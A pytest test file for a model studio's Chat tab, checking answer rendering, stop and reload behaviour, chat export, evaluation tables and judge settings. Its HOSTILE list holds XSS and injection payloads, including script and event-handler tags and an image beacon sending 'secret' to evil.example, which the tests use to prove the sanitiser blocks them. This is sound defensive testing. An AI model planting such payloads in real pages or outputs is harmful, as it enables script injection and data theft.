"""The Chat screen without an engine: talks that grow, stop and come back; hostile answers; files of questions."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from types import SimpleNamespace

import gradio as gr
import pytest

from studio.core.errors import StudioError
from studio.core.events import SampleWritten
from studio.core.facts import Verdict
from studio.core.i18n import load_catalogue, text
from studio.core.metrics import METRICS
from studio.core.metrics.metric import AnsweredRow, MetricSettings
from studio.data.questions import QuestionRow, QuestionSet
from studio.engine.answer_journal import WrittenAnswer
from studio.engine.confidence import bound_value
from studio.engine.run_states import StatePlace
from studio.services.chat_service import LoadedModel
from studio.services.evaluation_result import BASE, Contender, EvaluationResult, Side, compare_sides
from studio.services.judges import LocalJudge
from studio.ui.tabs.chat.answer_text import show_answer
from studio.ui.tabs.chat.cards import progress_card, said_words, state_card, talk_card
from studio.ui.tabs.chat.components import PRESETS, draw
from studio.ui.tabs.chat.evaluation_card import evaluation_card
from studio.ui.tabs.chat.tab import ChatTab
from tests.hub.test_chat_client import say, server  # noqa: F401 - a fixture
from tests.ui.sheet import Sheet

SAMPLING = (8, 0.0, 1.0, 0, 1.0, 0)
HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "![beacon](https://evil.example/x.png?q=secret)",
    "[click](javascript:alert(1)) and [here](https://evil.example)",
    '<a href="https://evil.example">x</a> https://evil.example',
    "**<b onmouseover=alert(1)>x</b>**",
    "`</code><img src=x>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\n<img src=x> never closed",
    "- <svg onload=alert(1)>\n1. <iframe src=//evil.example>",
    "# <style>@import '//evil.example'</style>",
    '<think>"><img src=x onerror=alert(1)></think>done',
    "<think><details open ontoggle=alert(1)>",
    "&lt;img src=x&gt; &#60;script&#62;",
    '" autofocus onfocus=alert(1) x="',
    "a\u202egnp.exe <input onfocus=alert(1)>",
    "</section></div><form action=//evil.example><button>ok",
    "${alert(1)} {{7*7}} <%= 1 %>",
]
"""What a model may have been made to write, and what a data set, a name or a log may hold."""
TAGS = {"p", "strong", "code", "pre", "ul", "ol", "li", "br", "details", "summary"}


class Reader(HTMLParser):
    """Collects the tags and attributes of a page, and the words that a person sees."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list) -> None:
        self.tags.append((tag, dict(attributes)))

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.parametrize("words", HOSTILE)
def test_a_hostile_answer_is_words_alone(words):
    read = Reader(show_answer(words, "thought <b>"))
    assert {tag for tag, _ in read.tags} <= TAGS
    for tag, attributes in read.tags:
        assert set(attributes) <= {"class", "value", "tabindex"}, (tag, attributes)
    for mark in ("javascript:", "evil.example", "onerror=alert(1)", "<script>", "<img src=x>"):
        assert (mark in read.words) == (mark in words), "shown as it was written"


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_come_through_no_card(words, context):
    say, turn = context.say, [{"role": "user", "content": words}, {"role": "assistant", "content": words}]
    found = make_result(words, words, words)
    loaded = SimpleNamespace(
        name=words, run=words, checkpoint="", device=words, size_bytes=3, base_changed=True
    )
    talk = {"base": turn, "tuned": turn}
    for html in (
        talk_card(words, turn, say, empty=words),
        talk_card(words, [], say, empty=words),
        evaluation_card(found, say),
        progress_card(words, 1, 2, say, stop="stop"),
        said_words(talk, ("base", "tuned"), say),
        state_card(run=words, loaded=loaded, waits="", left_s=None, name=words, place=words, say=say),
        state_card(run=words, loaded=None, waits=words, left_s=3, name="", place="", say=say),
    ):
        for tag, attributes in Reader(html).tags:
            assert tag not in (
                "img",
                "script",
                "a",
                "iframe",
                "svg",
                "form",
                "style",
                "input",
                "b onmouseover",
            )
            assert not [
                name for name in attributes if name.startswith("on") or name in ("href", "src", "autofocus")
            ]


@pytest.mark.parametrize(
    ("words", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        ("**bold** and `a < b`", "<p><strong>bold</strong> and <code>a &lt; b</code></p>"),
        ("- a\n- b\n2. c", '<ul><li>a</li><li>b</li></ul><ol><li value="2">c</li></ol>'),
        ("```py\nx = 1\n**no**\n```\nend", '<pre tabindex="0"><code>x = 1\n**no**</code></pre><p>end</p>'),
        ("`**no**`", "<p><code>**no**</code></p>"),
        ("2 * 3 ** 4", "<p>2 * 3 ** 4</p>"),
        ("<think>a\nb</think>yes", '<details class="thought"><summary>T</summary><p>a\nb</p></details><p>yes</p>'),
        ("a</think>yes", '<details class="thought"><summary>T</summary><p>a</p></details><p>yes</p>'),
        ("<think></think>yes", "<p>yes</p>"),
        ("", ""),
    ],
)  # fmt: skip
def test_an_answer_is_formatted_a_little(words, html):
    assert show_answer(words, "T") == html


def test_long_answers_are_formatted_quickly():
    import time

    started_s = time.perf_counter()
    for words in (
        "`" * 20_000,
        "**a" * 7_000,
        "<think>" * 4_000,
        "```\n" * 5_000,
        "1. " * 9_000,
        "`a" * 10_000,
    ):
        show_answer(words, "T")
    assert time.perf_counter() - started_s < 2


# The tab ----------------------------------------------------------------------------------------------------


@dataclass
class FakeTalks:
    """Answers like studio.services.chat_service.Talks, each answer letter by letter."""

    desk: object
    kept: dict = field(default_factory=dict)
    asked: list[dict] = field(default_factory=list)
    test: object = None
    memory: object = None
    fails: bool = False

    def choices(self, records) -> tuple:
        places = {"done": (StatePlace("", 12), StatePlace("step-00000006", 6))}
        places["half"] = (StatePlace("step-00000003", 3),)
        places["older"] = (StatePlace("", 9),)
        places["broken"] = (StatePlace("step-00000001", 1, text("chat.place.gone")),)
        return tuple(
            SimpleNamespace(record=one, places=places[one.run]) for one in records if one.run in places
        )

    def state(self) -> Verdict:
        run = self.desk.active
        return Verdict(ok=run is None, reason=text("chat.waits", run=run) if run else None)

    def loaded(self) -> object:
        return self.memory

    def answer(self, messages, *, should_stop, **settings):
        self.asked.append({"messages": messages} | settings)
        if self.fails:
            raise StudioError(text("chat.template"), text("chat.template"), text("chat.template.fix"))
        words = f"{settings['side']}: {messages[-1]['content']}"
        for end in range(1, len(words) + 1):
            if should_stop():
                return
            yield SimpleNamespace(
                words=words[:end], tokens=end, first_s=0.1, tokens_per_s=10.0, unfinished=False
            )

    @property
    def files(self) -> FakeTalks:
        return self

    def read(self, run: str) -> dict:
        return self.kept.get(run, {"system": "", "base": [], "tuned": []})

    def keep(self, run: str, talk: dict) -> None:
        self.kept[run] = talk

    def unload(self) -> int:
        self.memory = None
        return 2048

    def refuse_while_training(self) -> None:
        if self.desk.active:
            raise StudioError(
                text("desk.training", run="x"), text("desk.training.why"), text("desk.training.fix")
            )


class FakeEvaluations:
    def __init__(self) -> None:
        self.asked: list[dict] = []

    def contenders(self, name, beside=(), step=0):
        return tuple(Contender(one, name) for one in (f"step-{step}" if step else "tuned", *beside))

    def held_out(self, run):
        return QuestionSet(f"of {run}", ())

    def start(self, read, contenders, wish):
        self.asked.append({"questions": read(), "contenders": contenders, "wish": wish})


@pytest.fixture
def chat(context, monkeypatch):
    """The tab over a desk with a finished, a stopped and a broken run."""
    monkeypatch.setattr("studio.ui.tabs.chat.tab.SHOW_EVERY_S", 0)
    context.desk.log = {"broken": [], "half": [], "done": []}
    context.desk.chat = FakeTalks(context.desk)
    context.desk.evaluations = FakeEvaluations()
    with Sheet(), gr.Tab("chat") as tab:
        made = ChatTab(context)
        made.bind(tab)
    return made


def talk_of(run: str | None = "done", **sides) -> dict:
    """A page's talk."""
    return {"key": "", "run": run, "base": [], "tuned": []} | sides


def test_entering_takes_the_run_of_the_address_then_the_newest(chat):
    runs, places, *_ = chat.enter(None, None, talk_of(None), "")
    assert runs["value"] == "done" and [value for _, value in places["choices"]] == ["", "step-00000006"]
    assert chat.enter(None, None, talk_of(None), "half")[0]["value"] == "half"
    assert chat.enter("done", "", talk_of("done"), "half")[0]["value"] == "done", (
        "what was chosen since stays"
    )
    assert chat.enter("done", "", talk_of("done"), "!half")[0]["value"] == "half", (
        "a card sent the person here"
    )
    runs, places, *_ = chat.enter(None, None, talk_of(None), "../nowhere")
    assert runs["value"] == "done" and runs["choices"][-1][1] == ""
    broken = chat.pick_run("broken")[0]
    assert broken["value"] is None and "no longer there" in broken["choices"][0][0]


def test_a_run_in_the_picker_tells_its_state_once_and_nothing_of_saving(context, chat, monkeypatch):
    stopped = tuple(context.desk.runs.read(run) for run in ("done", "half"))
    monkeypatch.setattr(context.desk, "list", lambda: stopped)
    labels = {run: label for label, run in chat.enter(None, None, talk_of(None), "")[0]["choices"]}
    assert labels["half"].endswith("half · Stopped")


def test_the_last_talk_comes_back_after_a_reload(chat):
    list(chat.ask("hi", "done", "", "both", talk_of(None), "Be brief.", *SAMPLING))
    _, _, base, tuned, talk, system, _ = chat.enter(None, None, talk_of(None), "")
    assert "base: hi" in base and "tuned: hi" in tuned and system == "Be brief." and talk["run"] == "done"
    shown = chat.enter("done", "", talk, "")
    assert shown[2] == gr.skip(), "a page that has its talk keeps it"


def test_both_sides_answer_the_same_with_the_same_settings(context, chat):
    shown = list(
        chat.ask("hi <b>", "done", "step-00000006", "both", talk_of(), " Be brief. ", 8, 0.7, 0.9, 5, 1.1, 3)
    )
    assert len(shown) > 10
    assert shown[0][0] == "" and shown[0][7]["interactive"] and not shown[-1][7]["interactive"]
    talk = shown[-1][3]
    assert [turn["content"] for turn in talk["base"]] == ["hi <b>", "base: hi <b>"]
    assert [turn["content"] for turn in talk["tuned"]] == ["hi <b>", "tuned: hi <b>"]
    assert "<b>" not in shown[-1][2] and "10.0 tokens/s" in shown[-1][2] and "seed 3" in shown[-1][2]
    assert "aria-live" in shown[-1][4] and all(one[4] == gr.skip() for one in shown[:-1]), (
        "told once, at the end"
    )
    first, second = context.desk.chat.asked
    assert {**first, "side": ""} == {**second, "side": ""}
    assert first["checkpoint"] == "step-00000006" and (first["seed"], first["top_k"]) == (3, 5)
    assert first["messages"] == [{"role": "user", "content": "hi <b>"}], "nothing but role and words"


def test_one_side_alone_and_the_base_model_alone(context, chat):
    talk = list(chat.ask("hi", "done", "", "tuned", talk_of(), "", *SAMPLING))[-1][3]
    assert talk["base"] == [] and len(talk["tuned"]) == 2
    talk = list(chat.ask("hi", "", "", "both", talk_of(""), "", *SAMPLING))[-1][3]
    assert talk["tuned"] == [] and len(talk["base"]) == 2
    assert (
        context.desk.chat.asked[-1]["recipe"] == context.draft()
        and context.desk.chat.asked[0]["recipe"] is None
    )
    assert list(chat.ask("  ", "done", "", "both", talk_of(), "", *SAMPLING)) == [[gr.skip()] * 8]
    with pytest.raises(StudioError):
        next(chat.ask("hi", None, None, "both", talk_of(None), "", *SAMPLING))


def test_a_new_chat_offers_questions_that_the_run_was_made_for(context, chat):
    prompts = ["Two red cups to Rome.", "Two red cups to Rome.", "a\nb", "x" * 500, "<b>?", "Third", "Fourth"]
    context.desk.log["done"] = [
        SampleWritten(seq=i, time_s=i, step=0, prompt=prompt, answer="a")
        for i, prompt in enumerate(prompts, 1)
    ]
    base, tuned = chat.enter(None, None, talk_of(None), "")[2:4]
    offered = re.findall(r'data-do="example" data-value="([^"]*)"', tuned)
    assert offered == ["Two red cups to Rome.", "&lt;b&gt;?", "Third"] and "example" not in base
    said = {"do": "example", "value": "Third"}
    assert chat.hear(said, "done", "") == [gr.skip(), "Third"]
    shown = list(chat.ask("Third", "done", "", "both", talk_of(), "", *SAMPLING))[-1]
    assert "example" not in shown[2]
    assert "example" not in chat.pick_run("")[2], "the base model alone was made for nothing"


def test_stop_ends_this_pages_answer_and_no_others(chat):
    mine = chat.ask("a long question", "done", "", "both", talk_of(), "", *SAMPLING)
    theirs = chat.ask("another question", "done", "", "both", talk_of(), "", *SAMPLING)
    shown = [next(mine) for _ in range(3)]
    others = [next(theirs) for _ in range(3)]
    assert shown[-1][3]["key"] != others[-1][3]["key"]
    chat.end(shown[-1][3])
    rest, others = list(mine), list(theirs)
    talk = rest[-1][3]
    assert talk["base"][-1]["stopped"] and talk["base"][-1]["content"] == "ba"
    assert talk["tuned"] == [], "a side that was not reached has no question without an answer"
    assert others[-1][3]["tuned"][-1]["content"] == "tuned: another question"
    chat.end(talk)
    assert not chat._stops


def test_a_page_that_is_closed_keeps_what_was_written(context, chat):
    answers = chat.ask("hi", "done", "", "both", talk_of(), "", *SAMPLING)
    for _ in range(4):
        next(answers)
    answers.close()
    assert context.desk.chat.kept["done"]["base"][-1]["content"] == "bas" and not chat._stops


def test_a_refusal_gives_the_question_back(context, chat):
    context.desk.chat.fails = True
    before = talk_of(base=[{"role": "user", "content": "old"}])
    answers = chat.ask("hi", "done", "", "both", before, "", *SAMPLING)
    shown = []
    with pytest.raises(StudioError):
        for one in answers:
            shown.append(one)
    assert shown[-1][0] == "hi" and shown[-1][3]["base"] == before["base"] and shown[-1][6]["interactive"]


def test_ask_again_edit_and_new_talk(context, chat):
    talk = list(chat.ask("hi", "done", "", "both", talk_of(), "", 8, 0.7, 1, 0, 1, 3))[-1][3]
    talk = list(chat.ask_again("half typed", "done", "", "both", talk, "", 8, 0.7, 1, 0, 1, 3))[-1][3]
    assert [turn.get("seed") for turn in talk["tuned"]] == [None, 4], "another seed, or it would be the same"
    assert context.desk.chat.asked[-1]["messages"] == [{"role": "user", "content": "hi"}]
    exact = list(chat.ask_again("", "done", "", "tuned", talk, "", *SAMPLING))[-1][3]
    assert "seed" not in exact["tuned"][-1] and exact["base"] == talk["base"]
    words, _, _, shorter = chat.edit_last("", talk)
    assert words == "hi" and shorter["base"] == shorter["tuned"] == []
    assert chat.edit_last("typed", shorter) == [gr.skip()] * 4
    assert list(chat.ask_again("", "done", "", "both", shorter, "", *SAMPLING)) == [[gr.skip()] * 8]
    assert chat.forget("done", talk)[2]["base"] == [] and context.desk.chat.kept["done"]["base"] == []


def test_a_talk_is_saved_as_a_data_set_has_it(chat):
    talk = list(chat.ask('hi "ü"', "done", "", "both", talk_of(), "", *SAMPLING))[-1][3]
    file = json.loads(chat.write_talk(talk, "Be brief."))
    lines = [json.loads(line) for line in file["text"].splitlines()]
    assert file["name"] == "talk-done.jsonl" and len(lines) == 2
    assert [turn["role"] for turn in lines[0]["messages"]] == ["system", "user", "assistant"]
    assert lines[1]["messages"][-1] == {"role": "assistant", "content": 'tuned: hi "ü"'}
    with pytest.raises(StudioError):
        chat.write_talk(talk_of(), "")


def test_why_an_answer_must_wait_and_what_is_in_memory(context, chat):
    assert "your first question loads" in chat.show_state("done", "")
    memory = context.desk.chat.memory = LoadedModel("tiny", "done", "step-00000006", "cpu", 3 * 2**20)
    card = chat.show_state("done", "")
    assert "step 6" in card and "3.0 MiB" in card and 'data-do="unload"' in card
    assert "The weights of tiny are not those" not in card
    context.desk.chat.memory = replace(memory, base_changed=True)
    assert "The weights of tiny are not those" in chat.show_state("done", "")
    assert "your first question" in chat.hear({"do": "unload", "value": "", "form": {}}, "done", "")[0]
    context.desk.active = "done"
    card = chat.show_state("done", "")
    assert "A run is training" in card and 'data-go="training"' in card and "unload" not in card


def test_a_question_behind_an_export_says_what_it_waits_for(context, chat, monkeypatch):
    waits = Verdict(ok=False, reason=text("chat.waits.export"))
    monkeypatch.setattr(context.desk.chat, "state", lambda: waits, raising=False)
    first = next(chat.ask("hi", "done", "", "tuned", talk_of(), "", *SAMPLING))
    cards = [part for part in first if isinstance(part, str) and "An export is being written" in part]
    assert len(cards) == 1 and 'data-go="training"' not in cards[0]


def test_presets_set_the_fields_and_fields_stay_within_bounds(chat):
    assert chat.set_preset("exact") == [0.0, 1.0, 0, 1.0] == list(PRESETS["exact"])
    assert chat.set_preset("own") == chat.set_preset("nonsense") == [gr.skip()] * 4
    assert draw(None, None, None, None, None, None) == draw(256, 0, 1, 0, 1, 0)
    wild = draw(10**9, 99, -3, -1, float("nan"), 1e300)
    assert wild == draw(32768, 2, 0.05, 0, 1, 2**31 - 1) and isinstance(wild["seed"], int)


def test_an_answer_has_its_words_in_chinese():
    words = load_catalogue("zh-CN")
    turn = {"role": "assistant", "content": "a", "tokens": 2, "first_s": 0.1, "stopped": True, "seed": 4}
    card = talk_card("x", [turn], lambda id, **values: words.say(text(id, **values)), empty="")
    assert "复制" in card and "种子 4" in card and "Copy" not in card and "stopped" not in card


# Files of questions -----------------------------------------------------------------------------------------


def make_result(prompt: str, expected: str, base: str, tuned: str = "") -> EvaluationResult:
    """One question with both answers, scored by the real metrics."""
    tuned = tuned or expected
    row = QuestionRow(1, ({"role": "user", "content": prompt},), expected, {"prompt": prompt})
    bad = QuestionRow(2, (), None, {"prompt": ""}, problem=text("eval.row.no_question"))
    questions = QuestionSet("q.jsonl", (row, bad))
    metrics = tuple(metric for metric in METRICS if metric.name in ("exact", "json", "chrf", "perplexity"))
    sides = []
    for name, words, nats in (("tuned", tuned, 0.5), (BASE, base, 2.0)):
        answered = AnsweredRow(given=words, expected=expected, prompt=prompt, loss_nats=nats, loss_tokens=1)
        counts = {metric.name: metric.count(answered, MetricSettings()) for metric in metrics}
        scores = {
            metric.name: bound_value(metric, [counts[metric.name]])
            for metric in metrics
            if counts[metric.name]
        }
        kept = {metric: {1: one} if one else {} for metric, one in counts.items()}
        answers = {1: WrittenAnswer(words, 3, -1.5, "end")}
        sides.append(Side(Contender(name, "done"), answers, {}, kept, scores))
    return EvaluationResult(questions, metrics, tuple(sides), (compare_sides(*sides, metrics),), True)


def make_job(**changes) -> SimpleNamespace:
    """A test that ended with make_result()."""
    found = make_result("q", "a", "=1+1")
    job = SimpleNamespace(
        ended=True, error=None, phase=None, done=0, total=0, result=lambda: found, stopped=False
    )
    job.__dict__.update(changes)
    return job


def test_a_table_shows_scores_with_bounds_what_changed_and_every_row(context, chat):
    context.desk.chat.test = make_job()
    ((card, *saves),) = chat.questions.watch()
    assert all(save["visible"] for save in saves)
    for words in ("100.0 %", "[100.0, 100.0]", "1.65", "7.39", "1 rows without a question", "+100.0"):
        assert words in card, words
    assert "1 rows that “Base model” has wrong are right now (Exact)" in card
    assert 'class="exact"' in card and 'class="wrong"' in card
    file = json.loads(chat.questions.write())
    assert file["name"] == "q-done.csv" and "'=1+1" in file["text"]
    lines = [json.loads(line) for line in json.loads(chat.questions.write_lines())["text"].splitlines()]
    assert [line["base"] for line in lines] == ["=1+1", None] and lines[0]["tuned.log_probability"] == -1.5


def test_rows_that_were_right_before_are_open_and_come_first(context, chat):
    context.desk.chat.test = make_job(result=lambda: make_result("q", "a", "a", "b"))
    ((card, *_),) = chat.questions.watch()
    lost = card.index("1 rows that “Base model” has right are wrong now (Exact)")
    assert lost < card.index("All 1 rows") and card.count("<details") == 2
    assert re.search(r'<details class="changed" open><summary>1 rows that “Base model” has right', card)
    assert 'class="bad"' in card


def test_a_test_that_failed_or_was_never_begun(context, chat):
    assert list(chat.questions.watch()) == [[gr.skip()] * 3]
    with pytest.raises(StudioError):
        chat.questions.write()
    context.desk.chat.test = make_job(error=RuntimeError("<b>boom"))
    ((card, *saves),) = chat.questions.watch()
    assert "&lt;b&gt;boom" in card and not any(save["visible"] for save in saves)
    stopped = []
    context.desk.chat.test = make_job(ended=False, stop=lambda: stopped.append(1))
    chat.questions.hear({"do": "stop-test"})
    chat.questions.hear({"do": "stop"})
    assert stopped == [1]


def test_a_file_is_read_before_the_model_is_loaded(context, chat, tmp_path):
    wish = (64, [], ["base"])
    with pytest.raises(StudioError):
        next(chat.questions.begin(None, *wish, "done", "", ""))
    path = tmp_path / "q.txt"
    path.write_text("one\ntwo\n", encoding="utf-8")
    context.desk.chat.test = make_job()
    asked = context.desk.evaluations.asked
    given = (64, ["number", "exact"], ["base", "checkpoints"])
    list(chat.questions.begin(str(path), *given, "done", "step-00000006", "Be brief."))
    assert asked[-1]["questions"].name == "q.txt"
    assert [one.prompt for one in asked[-1]["questions"].asked] == ["one", "two"]
    assert [one.name for one in asked[-1]["contenders"]] == ["step-6", "base", "checkpoints"]
    assert [metric.name for metric in asked[-1]["wish"].metrics] == ["exact", "number"]
    assert (asked[-1]["wish"].system, asked[-1]["wish"].max_new_tokens) == ("Be brief.", 64)
    list(chat.questions.begin_demo(None, *wish, "done", "", ""))
    assert len(asked[-1]["questions"].asked) == 120
    list(chat.questions.begin_held_out(None, *wish, "done", "", ""))
    assert asked[-1]["questions"].name == "of done"
    list(chat.questions.begin_demo(None, *wish, "", "", ""))
    assert asked[-1]["contenders"][0].recipe == context.draft(), "the base alone"
    with pytest.raises(StudioError):
        next(chat.questions.begin_held_out(None, *wish, "", "", ""))
    context.desk.active = "done"
    with pytest.raises(StudioError):
        next(chat.questions.begin(str(path), *wish, "done", "", ""))


def test_a_judge_is_named_by_mouse(context, chat, server, tmp_path):  # noqa: F811
    path = tmp_path / "q.txt"
    path.write_text("one\n", encoding="utf-8")
    context.desk.chat.test = make_job()
    asked, who = context.desk.evaluations.asked, ("done", "", "")
    address = server(models=(200, b'{"data": [{"id": "wise"}]}'), completions=(200, say("Score: 7")))
    given = ("address", address, "", "a-key", None, "Be kind.")
    list(chat.questions.begin(str(path), 64, ["exact"], [], *who, *given))
    judge, verdicts = asked[-1]["wish"].judge, []
    assert [metric.name for metric in asked[-1]["wish"].metrics] == ["exact", "judge"]
    row = AnsweredRow(given="a", expected="b", prompt="q")
    judge.judge([row], lambda place, one: verdicts.append(one.score), lambda: False)
    assert verdicts == [0.7] and server.seen[-1][1]["Authorization"] == "Bearer a-key"
    assert "Be kind." in server.seen[-1][2]["messages"][0]["content"]
    assert "a-key" not in repr(judge) + judge.rubric
    list(chat.questions.begin(str(path), 64, [], [], *who, "local", "", "", "", "done", "Be kind."))
    assert asked[-1]["wish"].metrics == () and isinstance(asked[-1]["wish"].judge, LocalJudge)
    list(chat.questions.begin(str(path), 64, [], [], *who, "none", address, "", "", None, "Be kind."))
    assert asked[-1]["wish"].judge is None


@pytest.mark.parametrize(
    ("given", "id"),
    [
        (("address", "", "", "", None, "Be kind."), "ui.eval.judge.missing"),
        (("address", "http://127.0.0.1:9/v1", "m", "", None, " "), "ui.eval.judge.missing"),
        (("address", "http://127.0.0.1:9/v1", "m", "", None, "x" * 70_000), "ui.eval.judge.missing"),
        (("local", "", "", "", None, "Be kind."), "ui.eval.judge.missing"),
        (("address", "ftp://127.0.0.1/v1", "m", "", None, "Be kind."), "chat_client.address"),
        (("address", "http://93.184.216.34/v1", "m", "", None, "Be kind."), "chat_client.open"),
        (("address", "http://127.0.0.1:9/v1", "m", "k\n", None, "Be kind."), None),
    ],
)
def test_a_judge_that_cannot_be_asked_is_refused_before_anything_begins(context, chat, tmp_path, given, id):
    path = tmp_path / "q.txt"
    path.write_text("one\n", encoding="utf-8")
    context.desk.chat.test = make_job()
    begin = chat.questions.begin(str(path), 64, [], [], "done", "", "", *given)
    if id is None:
        list(begin)
        return
    with pytest.raises(StudioError) as refused:
        next(begin)
    assert refused.value.what.id == id and not context.desk.evaluations.asked


def test_the_fields_of_who_judges_are_shown(chat):
    shown = {
        kind: [one["visible"] for one in chat.questions.judge.choose(kind)]
        for kind in ("none", "address", "local")
    }
    assert shown == {"none": [False] * 3, "address": [True, False, True], "local": [False, True, True]}
    assert "done" in dict(map(reversed, chat.questions.judge.choose("local")[1]["choices"]))
